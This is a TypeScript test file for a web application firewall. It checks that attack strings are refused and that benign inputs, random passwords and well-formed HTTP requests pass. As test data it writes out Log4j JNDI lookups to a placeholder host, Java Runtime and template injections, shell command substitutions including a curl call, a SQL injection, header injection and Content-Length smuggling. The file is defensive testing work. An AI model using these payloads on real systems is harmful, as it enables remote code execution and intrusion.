/**
 * P3 WAF detectors for Java, PHP and the HTTP grammar, on cases written from each
 * attack's grammar (test/security/corpora/own-attacks/java.json and code.json,
 * never copied from a corpus): every attack is refused wherever it stands (query
 * parameter, JSON field, header, cookie), its benign look-alikes pass, the request
 * rules enforce RFC 9110/9112 framing and target shape, and generated passwords of
 * random printable ASCII are never refused.
 */
import { describe, expect, it } from "vitest";
import { compileRules, inspect, scoreOf, type WafRequest } from "../../src/pipeline/waf";
import codeCases from "./corpora/own-attacks/code.json";
import javaCases from "./corpora/own-attacks/java.json";

interface OwnCase {
  readonly class: string;
  readonly value: string;
}

const THRESHOLD = 5;
const rules = compileRules(1, { skipAppRules: true });
const blocked = (request: WafRequest): boolean => scoreOf(inspect(request, rules)) >= THRESHOLD;
const host: [string, string] = ["host", "api.rampart.example"];

const asQuery = (value: string): WafRequest => ({
  method: "GET",
  target: `/v1/orgs/acme/risks?q=${encodeURIComponent(value)}`,
  headers: [host],
  body: undefined,
});
const asJson = (value: string): WafRequest => ({
  method: "POST",
  target: "/v1/orgs/acme/risks",
  headers: [host, ["content-type", "application/json"]],
  body: JSON.stringify({ title: "Quarterly review", description: value }),
});
const asForm = (value: string): WafRequest => ({
  method: "POST",
  target: "/v1/orgs/acme/risks",
  headers: [host, ["content-type", "application/x-www-form-urlencoded"]],
  body: new URLSearchParams({ title: "Quarterly review", notes: value }).toString(),
});
// Header and cookie values are percent-decoded by the WAF like any value; encoded, a case keeps its `;` and line breaks.
const asHeader = (value: string): WafRequest => ({
  method: "GET",
  target: "/v1/orgs/acme/risks",
  headers: [host, ["x-client-note", encodeURIComponent(value)]],
  body: undefined,
});
const asCookie = (value: string): WafRequest => ({
  method: "GET",
  target: "/v1/auth/me",
  headers: [host, ["cookie", `theme=dark; pref=${encodeURIComponent(value)}`]],
  body: undefined,
});
const ATTACK_WAYS = { query: asQuery, json: asJson, header: asHeader, cookie: asCookie } as const;
const BENIGN_WAYS = { query: asQuery, json: asJson, form: asForm } as const;

const cases = [...(javaCases.cases as OwnCase[]), ...(codeCases.cases as OwnCase[])];
const attacks = cases.filter((c) => c.class !== "benign");
const benign = cases.filter((c) => c.class === "benign");

describe("P3 WAF Java and PHP detectors on attacks written from the grammar", () => {
  it("P3: the case files hold at least 30 attacks per class and benign look-alikes", () => {
    expect(attacks.filter((c) => c.class === "java").length).toBeGreaterThanOrEqual(30);
    expect(attacks.filter((c) => c.class === "php").length).toBeGreaterThanOrEqual(30);
    expect(benign.length).toBeGreaterThanOrEqual(20);
  });

  it.each(attacks.map((c) => [c.class, c.value] as const))(
    "P3 (refuses): %s attack %j is refused in a query, a JSON field, a header and a cookie",
    (_class, value) => {
      const passed = Object.entries(ATTACK_WAYS).flatMap(([way, build]) => (blocked(build(value)) ? [] : [way]));
      expect(passed).toEqual([]);
    },
  );

  it.each(benign.map((c) => [c.value] as const))("P3: the look-alike %j passes in a query, a JSON field and a form field", (value) => {
    const refused = Object.entries(BENIGN_WAYS).flatMap(([way, build]) =>
      blocked(build(value))
        ? [
            `${way}: ${inspect(build(value), rules)
              .map((m) => m.id)
              .join(",")}`,
          ]
        : [],
    );
    expect(refused).toEqual([]);
  });

  it("P3 (refuses): a Log4j lookup in a JSON key is refused too", () => {
    const request = asJson("x");
    expect(blocked({ ...request, body: JSON.stringify({ "${${::-j}ndi:ldap://h.example/k}": 1 }) })).toBe(true);
  });
});

describe("P3 WAF on credentials", () => {
  const signUp = (password: string): WafRequest => ({
    method: "POST",
    target: "/v1/auth/sign-up",
    headers: [host, ["content-type", "application/json"]],
    body: JSON.stringify({ email: "new.user@example.com", password }),
  });

  it.each([
    "${jndi:ldap://h.example/a}",
    "Pa55${${lower:j}ndi:rmi://h.example/b}",
    "${${::-j}${::-n}di:dns://h.example/c}",
    "#{T(java.lang.Runtime).getRuntime()}",
    "${7*7}",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "$(whoami)",
    "`curl h.example`",
    "line\r\nbreak",
  ])("P3 (refuses): the credential %j is refused", (password) => {
    expect(blocked(signUp(password))).toBe(true);
  });

  it("P3: none of 5,000 generated passwords of random printable ASCII is refused", () => {
    // A fixed seed: the same passwords every run (a refusal is reproducible, not a flake).
    let state = 0x9e3779b9;
    const next = (): number => {
      state ^= state << 13;
      state ^= state >>> 17;
      state ^= state << 5;
      return state >>> 0;
    };
    const refused: string[] = [];
    for (let n = 0; n < 5000; n++) {
      const length = 8 + (next() % 57);
      const password = Array.from({ length }, () => String.fromCharCode(32 + (next() % 95))).join("");
      if (blocked(signUp(password))) refused.push(password);
    }
    expect(refused).toEqual([]);
  });
});

describe("P3 WAF request rules: RFC 9110/9112 grammar", () => {
  const get = (target: string, headers: [string, string][] = []): WafRequest => ({
    method: "GET",
    target,
    headers: [host, ...headers],
    body: undefined,
  });
  const ids = (request: WafRequest, level: 1 | 2 = 1): number[] =>
    inspect(request, compileRules(level, { skipAppRules: true })).map((m) => m.id);

  it.each([
    ["a descending range", get("/v1/files/a", [["range", "bytes=500-100"]]), 117],
    ["overlapping ranges", get("/v1/files/a", [["range", "bytes=0-499,200-700"]]), 117],
    ["many ranges", get("/v1/files/a", [["range", "bytes=0-1,3-4,6-7,9-10,12-13,15-16"]]), 117],
    ["a range in another unit", get("/v1/files/a", [["range", "lines=1-5"]]), 117],
    ["two suffix ranges", get("/v1/files/a", [["range", "bytes=-5,-10"]]), 117],
    ["a header name with a space", get("/v1/risks", [["x bad", "1"]]), 123],
    ["a header name with a colon", get("/v1/risks", [["x:y", "1"]]), 123],
    ["a header value with a line feed", get("/v1/risks", [["x-note", "a\nset-cookie: b"]]), 123],
    ["a header value with a bell", get("/v1/risks", [["x-note", "a\u0007"]]), 123],
    [
      "two differing Content-Lengths",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json"], ["content-length", "2"], ["content-length", "40"]],
        body: "{}",
      },
      124,
    ],
    [
      "a Content-Length list that disagrees",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json"], ["content-length", "2, 3"]],
        body: "{}",
      },
      124,
    ],
    ["a fragment in the target", get("/v1/risks#top"), 125],
    ["asterisk form on GET", get("*"), 125],
    ["a backslash in the path", get("/v1\\..\\admin"), 125],
    ["absolute form naming another host", get("http://internal.example/v1/risks"), 125],
    ["a target without a leading slash", get("v1/risks"), 125],
    [
      "a Content-Type that is no media type",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json;;charset=utf-8 x"], ["content-length", "2"]],
        body: "{}",
      },
      126,
    ],
    [
      "a Content-Type with a type but no subtype",
      { method: "POST", target: "/v1/risks", headers: [host, ["content-type", "json"], ["content-length", "2"]], body: "{}" },
      126,
    ],
    ["Connection both keep-alive and close", get("/v1/risks", [["connection", "keep-alive, close"]]), 127],
    ["a compressed request body", get("/v1/risks", [["content-encoding", "gzip"]]), 116],
    [
      "a charset that is no token",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json; charset=utf-8/evil"], ["content-length", "2"]],
        body: "{}",
      },
      109,
    ],
    [
      "two charsets",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json; charset=utf-8; charset=utf-7"], ["content-length", "2"]],
        body: "{}",
      },
      109,
    ],
    [
      "a NUL escaped in JSON",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json"], ["content-length", "20"]],
        body: '{"title":"a\\u0000b"}',
      },
      113,
    ],
  ] as const)("P3 (refuses): %s is refused", (_name, request, id) => {
    expect(ids(request)).toContain(id);
  });

  // Every name of the restricted list (a switch in the rule: one test per case, so a typo cannot hide).
  it.each([
    "proxy",
    "content-encoding",
    "lock-token",
    "content-range",
    "if",
    "x-http-method-override",
    "x-http-method",
    "x-method-override",
    "x-middleware-subrequest",
    "request-range",
    "translate",
  ])("P3 (refuses): a %s header is refused as restricted", (name) => {
    expect(ids(get("/v1/risks", [[name, "1"]]))).toContain(116);
  });

  it("P3: credentials and framing headers are not read as client text; any other header with the same value is", () => {
    const attack = "' UNION SELECT password FROM users --";
    const valueMatches = (name: string): boolean =>
      inspect(get("/v1/risks", [[name, attack]]), compileRules(1, { skipAppRules: true })).some((m) => m.kind === "header");
    for (const name of ["authorization", "proxy-authorization", "stripe-signature", "content-length", "transfer-encoding", "connection"])
      expect(valueMatches(name), name).toBe(false);
    for (const name of ["x-note", "user-agent", "accept", "authorisation", "connections"]) expect(valueMatches(name), name).toBe(true);
  });

  it("P3: a header name of every token character passes the field-name rule; one past 100 characters, or with a non-ASCII letter, does not", () => {
    const tchars = "!#$%&'*+-.^_`|~0123456789abcdefghijklmnopqrstuvwxyz";
    expect(ids(get("/v1/risks", [[tchars, "1"]]))).not.toContain(123);
    expect(ids(get("/v1/risks", [["x".repeat(100), "1"]]))).not.toContain(123);
    expect(ids(get("/v1/risks", [["x".repeat(101), "1"]]))).toContain(123);
    expect(ids(get("/v1/risks", [["x-caf\u00e9", "1"]]))).toContain(123);
    expect(ids(get("/v1/risks", [["", "1"]]))).toContain(123);
    for (const c of '"(),/:;<=>?@[\\]{} ') expect(ids(get("/v1/risks", [[`x${c}y`, "1"]])), c).toContain(123);
  });

  it.each([
    ["an empty User-Agent", get("/v1/risks", [["user-agent", ""]]), 128],
    ["an empty Accept", get("/v1/risks", [["accept", " "]]), 128],
    ["a double-encoded target", get("/v1/risks?q=%252e%252e%252f"), 129],
  ] as const)("P3 (refuses): %s is refused at paranoia 2", (_name, request, id) => {
    expect(ids(request, 2)).toContain(id);
    expect(ids(request, 1)).not.toContain(id);
  });

  it.each([
    ["a single range", get("/v1/files/a", [["range", "bytes=0-1023"]])],
    ["an open range", get("/v1/files/a", [["range", "bytes=1024-"]])],
    ["a suffix range", get("/v1/files/a", [["range", "bytes=-500"]])],
    ["two ascending ranges", get("/v1/files/a", [["range", "bytes=0-99, 200-299"]])],
    ["OPTIONS *", { method: "OPTIONS", target: "*", headers: [host], body: undefined }],
    ["absolute form naming this host", get("https://api.rampart.example/v1/risks")],
    ["a backslash in the query", get("/v1/risks?q=C:\\reports")],
    [
      "a multipart upload",
      {
        method: "POST",
        target: "/v1/orgs/acme/evidence/files",
        headers: [host, ["content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"], ["content-length", "4"]],
        body: undefined,
      },
    ],
    [
      "JSON with a quoted charset",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", 'application/json; charset="utf-8"'], ["content-length", "2"]],
        body: "{}",
      },
    ],
    [
      "a literal %00 in a JSON string",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json"], ["content-length", "20"]],
        body: '{"title":"50%00 off"}',
      },
    ],
    ["Connection: keep-alive", get("/v1/risks", [["connection", "keep-alive"]])],
    [
      "one Content-Length repeated",
      {
        method: "POST",
        target: "/v1/risks",
        headers: [host, ["content-type", "application/json"], ["content-length", "2"], ["content-length", "2"]],
        body: "{}",
      },
    ],
  ] as const)("P3: %s passes the request rules", (_name, request) => {
    const requestRuleIds = ids(request, 2).filter((id) => id < 200);
    expect(requestRuleIds).toEqual([]);
  });
});
